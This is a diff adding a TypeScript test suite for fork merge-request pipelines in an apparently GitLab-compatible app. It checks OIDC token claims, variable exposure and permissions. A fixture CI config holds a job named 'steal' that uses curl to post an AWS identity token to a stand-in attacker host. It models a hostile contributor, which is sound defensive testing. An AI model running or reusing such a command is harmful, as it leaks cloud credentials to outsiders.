@@ -1,0 +1,259 @@
+import { JWTPayload, createLocalJWKSet, jwtVerify } from 'jose';
+import { commitCiConfig } from './support/ci-fixtures';
+import { branchHead } from './support/repository-fixtures';
+import { client, resources } from './support/resources';
+import { JobPayload, createRunner, runPipeline, takeJob, variableMap } from './support/runner-fixtures';
+import { TestApp, TestUser, createUser, startTestApp } from './support/test-app';
+
+const REPORTER = 20;
+const DEVELOPER = 30;
+
+const PARENT_CI = `
+build:
+  script: [make]
+  id_tokens:
+    AWS_TOKEN:
+      aud: sts.amazonaws.com
+`;
+// The fork's own config: what a contributor controls, and what the merge-request pipeline runs.
+const FORK_CI = `
+steal:
+  script: [curl -d "$AWS_TOKEN" https://attacker.example]
+  id_tokens:
+    AWS_TOKEN:
+      aud: sts.amazonaws.com
+`;
+
+interface World {
+  owner: TestUser;
+  reviewer: TestUser;
+  contributor: TestUser;
+  parent: { id: number; path_with_namespace: string; namespace: { id: number } };
+  group: { id: number; full_path: string };
+  runnerToken: string;
+}
+
+describe('Fork merge-request pipelines (gitlab#548165)', () => {
+  let api: TestApp;
+  let world: World;
+  let issuer: string;
+
+  beforeAll(async () => {
+    api = await startTestApp();
+    issuer = (await api.http.get('/.well-known/openid-configuration').expect(200)).body.issuer;
+  });
+  afterAll(() => api.close());
+
+  async function verify(token: string): Promise<JWTPayload & Record<string, unknown>> {
+    const jwks = createLocalJWKSet((await api.http.get('/oauth/discovery/keys').expect(200)).body);
+    const { payload } = await jwtVerify(token, jwks, { issuer, audience: 'sts.amazonaws.com', algorithms: ['RS256'] });
+    return payload as JWTPayload & Record<string, unknown>;
+  }
+
+  function tokenOf(job: JobPayload): string {
+    return variableMap(job).get('AWS_TOKEN')!.value;
+  }
+
+  /** A parent in a group with CI on its (protected) main, a parent runner, and a reporter who forks it. */
+  async function makeWorld(): Promise<World> {
+    const owner = await createUser(api, 'owner');
+    const reviewer = await createUser(api, 'reviewer');
+    const contributor = await createUser(api, 'contrib');
+    const make = resources(api);
+    const group = await make.group(owner);
+    const parent = await make.project(owner, { namespace_id: group.id });
+    await commitCiConfig(api, owner, parent.id, PARENT_CI, 'main');
+    await make.addMember(owner, `projects/${parent.id}`, reviewer, DEVELOPER);
+    await make.addMember(owner, `projects/${parent.id}`, contributor, REPORTER);
+    const runner = await createRunner(api, owner, { runner_type: 'project_type', project_id: parent.id });
+    return { owner, reviewer, contributor, parent, group, runnerToken: runner.token };
+  }
+
+  async function forkOf(who: TestUser, projectId: number, body: object = {}) {
+    const response = await client(api, who).post(`/projects/${projectId}/fork`, body);
+    expect(response.status).toBe(201);
+    return response.body as { id: number; path_with_namespace: string; namespace: { id: number; full_path: string }; visibility: string };
+  }
+
+  /** The contributor's fork, its `main` rewritten with their own config, and a merge request from it to the parent. */
+  async function forkMergeRequest(w: World, sourceBranch = 'main') {
+    const fork = await forkOf(w.contributor, w.parent.id);
+    if (sourceBranch !== 'main') {
+      await client(api, w.contributor).post(`/projects/${fork.id}/repository/branches`, { branch: sourceBranch, ref: 'main' }).expect(201);
+    }
+    await commitCiConfig(api, w.contributor, fork.id, FORK_CI, sourceBranch);
+    const mr = await client(api, w.contributor).post(`/projects/${fork.id}/merge_requests`, {
+      source_branch: sourceBranch,
+      target_branch: 'main',
+      target_project_id: w.parent.id,
+      title: 'Improve things',
+    });
+    expect(mr.status).toBe(201);
+    return { fork, mr: mr.body as { id: number; iid: number; project_id: number; source_project_id: number; target_project_id: number } };
+  }
+
+  beforeEach(async () => {
+    world = await makeWorld();
+  });
+
+  it('names the fork in project_* and the parent in job_project_*, with ref_protected "false" for a fork branch called main', async () => {
+    const { fork, mr } = await forkMergeRequest(world);
+    const forkSha = await branchHead(api, world.contributor, fork.id, 'main');
+
+    const created = await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`);
+    expect(created.status).toBe(200); // GitLab: `status :ok`
+    // GitLab's pipeline ref is the merge request's ref in the parent; the claims' ref is the source branch.
+    expect(created.body).toMatchObject({ project_id: world.parent.id, source: 'merge_request_event', sha: forkSha, ref: `refs/merge-requests/${mr.iid}/head` });
+
+    const job = await takeJob(api, world.runnerToken);
+    expect(job.job_info.name).toBe('steal');
+    const claims = await verify(tokenOf(job));
+    const { host } = new URL(issuer);
+    expect(claims).toMatchObject({
+      project_id: String(fork.id),
+      project_path: fork.path_with_namespace,
+      namespace_id: String(fork.namespace.id),
+      namespace_path: fork.namespace.full_path,
+      job_project_id: String(world.parent.id),
+      job_project_path: world.parent.path_with_namespace,
+      job_namespace_id: String(world.group.id),
+      job_namespace_path: world.group.full_path,
+      pipeline_source: 'merge_request_event',
+      ref: 'main',
+      ref_type: 'branch',
+      ref_path: 'refs/heads/main',
+      ref_protected: 'false',
+      sha: forkSha,
+      project_visibility: 'private',
+      ci_config_ref_uri: `${host}/${world.parent.path_with_namespace}//.gitlab-ci.yml@refs/heads/main`,
+      user_login: world.reviewer.username,
+      // GitLab computes it on the source project, where the reviewer is no member.
+      user_access_level: null,
+      sub: `project_path:${fork.path_with_namespace}:ref_type:branch:ref:main`,
+    });
+
+    // The parent's own protected main, for comparison: its sub is never the fork's.
+    await runPipeline(api, world.owner, world.parent.id, 'main');
+    const parentClaims = await verify(tokenOf(await takeJob(api, world.runnerToken)));
+    expect(parentClaims).toMatchObject({ project_path: world.parent.path_with_namespace, ref_protected: 'true', pipeline_source: 'api' });
+    expect(claims.sub).not.toBe(parentClaims.sub);
+  });
+
+  it('gives the merge request predefined variables, and the parent unprotected but never protected variables', async () => {
+    await client(api, world.owner).post(`/projects/${world.parent.id}/variables`, { key: 'OPEN_VAR', value: 'open-value' }).expect(201);
+    await client(api, world.owner)
+      .post(`/projects/${world.parent.id}/variables`, { key: 'DEPLOY_KEY', value: 'protected-secret', protected: true })
+      .expect(201);
+    const { fork, mr } = await forkMergeRequest(world, 'feature');
+    await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200);
+    const variables = variableMap(await takeJob(api, world.runnerToken));
+    const value = (key: string) => variables.get(key)?.value;
+    expect(value('DEPLOY_KEY')).toBeUndefined();
+    expect(value('OPEN_VAR')).toBe('open-value');
+    expect({
+      iid: value('CI_MERGE_REQUEST_IID'),
+      id: value('CI_MERGE_REQUEST_ID'),
+      sourceBranch: value('CI_MERGE_REQUEST_SOURCE_BRANCH_NAME'),
+      targetBranch: value('CI_MERGE_REQUEST_TARGET_BRANCH_NAME'),
+      sourceProjectId: value('CI_MERGE_REQUEST_SOURCE_PROJECT_ID'),
+      sourceProjectPath: value('CI_MERGE_REQUEST_SOURCE_PROJECT_PATH'),
+      projectId: value('CI_MERGE_REQUEST_PROJECT_ID'),
+      projectPath: value('CI_MERGE_REQUEST_PROJECT_PATH'),
+      title: value('CI_MERGE_REQUEST_TITLE'),
+      eventType: value('CI_MERGE_REQUEST_EVENT_TYPE'),
+      refPath: value('CI_MERGE_REQUEST_REF_PATH'),
+      pipelineSource: value('CI_PIPELINE_SOURCE'),
+      commitRef: value('CI_COMMIT_REF_NAME'),
+      projectPathVariable: value('CI_PROJECT_PATH'),
+    }).toEqual({
+      iid: String(mr.iid),
+      id: String(mr.id),
+      sourceBranch: 'feature',
+      targetBranch: 'main',
+      sourceProjectId: String(fork.id),
+      sourceProjectPath: fork.path_with_namespace,
+      projectId: String(world.parent.id),
+      projectPath: world.parent.path_with_namespace,
+      title: 'Improve things',
+      eventType: 'detached',
+      refPath: `refs/merge-requests/${mr.iid}/head`,
+      pipelineSource: 'merge_request_event',
+      commitRef: 'feature',
+      projectPathVariable: world.parent.path_with_namespace,
+    });
+  });
+
+  it('keeps project_path-led subs apart from the parent main; a job_project_path-led sub needs ref_protected to stay apart', async () => {
+    const { fork, mr } = await forkMergeRequest(world);
+    const warned: string[][] = [];
+    const subsFor = async (components: string[]) => {
+      warned.push((await client(api, world.owner).put(`/projects/${world.parent.id}`, { ci_id_token_sub_claim_components: components }).expect(200)).body.warnings ?? []);
+      await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`).expect(200);
+      const fromFork = (await verify(tokenOf(await takeJob(api, world.runnerToken)))).sub;
+      await runPipeline(api, world.owner, world.parent.id, 'main');
+      const fromMain = (await verify(tokenOf(await takeJob(api, world.runnerToken)))).sub;
+      return { fromFork, fromMain };
+    };
+
+    const projectPathRef = await subsFor(['project_path', 'ref']);
+    expect(projectPathRef.fromFork).toBe(`project_path:${fork.path_with_namespace}:ref:main`);
+    expect(projectPathRef.fromFork).not.toBe(projectPathRef.fromMain);
+
+    const projectIdRef = await subsFor(['project_id', 'ref']);
+    expect(projectIdRef.fromFork).toBe(`project_id:${fork.id}:ref:main`);
+    expect(projectIdRef.fromFork).not.toBe(projectIdRef.fromMain);
+
+    // Where the job runs is the parent, on a branch called main: this list cannot tell the fork's code apart.
+    const jobProjectPathRef = await subsFor(['job_project_path', 'ref']);
+    expect(jobProjectPathRef.fromFork).toBe(`job_project_path:${world.parent.path_with_namespace}:ref:main`);
+    expect(jobProjectPathRef.fromFork).toBe(jobProjectPathRef.fromMain);
+
+    const withProtection = await subsFor(['job_project_path', 'ref', 'ref_protected']);
+    expect(withProtection.fromFork).toBe(`job_project_path:${world.parent.path_with_namespace}:ref:main:ref_protected:false`);
+    expect(withProtection.fromMain).toBe(`job_project_path:${world.parent.path_with_namespace}:ref:main:ref_protected:true`);
+    // The maintainer who chose the colliding list was told so when saving it.
+    expect(warned.map((warnings) => warnings.some((warning) => warning.includes('gitlab#548165')))).toEqual([false, false, true, false]);
+  });
+
+  it('runs a contributor’s request in the fork, as GitLab does for a user who may not run pipelines in the parent', async () => {
+    const { fork, mr } = await forkMergeRequest(world, 'feature');
+    const created = await client(api, world.contributor).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`);
+    expect(created.status).toBe(200); // GitLab: `status :ok`
+    expect(created.body).toMatchObject({ project_id: fork.id, source: 'merge_request_event', ref: 'feature' });
+    // Nothing was queued for the parent's runner.
+    expect((await client(api, world.owner).get(`/projects/${world.parent.id}/pipelines`).expect(200)).body.map((p: { source: string }) => p.source)).not.toContain(
+      'merge_request_event',
+    );
+  });
+
+  it('refuses a merge-request pipeline to someone who cannot run pipelines in either project', async () => {
+    const { mr } = await forkMergeRequest(world, 'feature');
+    const outsider = await createUser(api, 'outsider');
+    await resources(api).addMember(world.owner, `projects/${world.parent.id}`, outsider, REPORTER);
+    const refused = await client(api, outsider).post(`/projects/${world.parent.id}/merge_requests/${mr.iid}/pipelines`);
+    expect(refused.status).toBe(405); // GitLab: `not_allowed!`
+    expect(refused.body).toEqual({ message: '405 Method Not Allowed' });
+  });
+
+  it('gives a same-project merge request equal project and job-project claims', async () => {
+    await client(api, world.owner).post(`/projects/${world.parent.id}/repository/branches`, { branch: 'feature', ref: 'main' }).expect(201);
+    const mr = await client(api, world.reviewer)
+      .post(`/projects/${world.parent.id}/merge_requests`, { source_branch: 'feature', target_branch: 'main', title: 'Same project' })
+      .expect(201);
+    expect(mr.body).toMatchObject({ project_id: world.parent.id, source_project_id: world.parent.id, target_project_id: world.parent.id, iid: 1 });
+    await client(api, world.reviewer).post(`/projects/${world.parent.id}/merge_requests/${mr.body.iid}/pipelines`).expect(200);
+    const claims = await verify(tokenOf(await takeJob(api, world.runnerToken)));
+    expect(claims).toMatchObject({
+      project_id: String(world.parent.id),
+      job_project_id: String(world.parent.id),
+      project_path: world.parent.path_with_namespace,
+      job_project_path: world.parent.path_with_namespace,
+      namespace_id: String(world.group.id),
+      job_namespace_id: String(world.group.id),
+      pipeline_source: 'merge_request_event',
+      ref: 'feature',
+      ref_protected: 'false',
+      user_access_level: 'developer',
+    });
+  });
+});
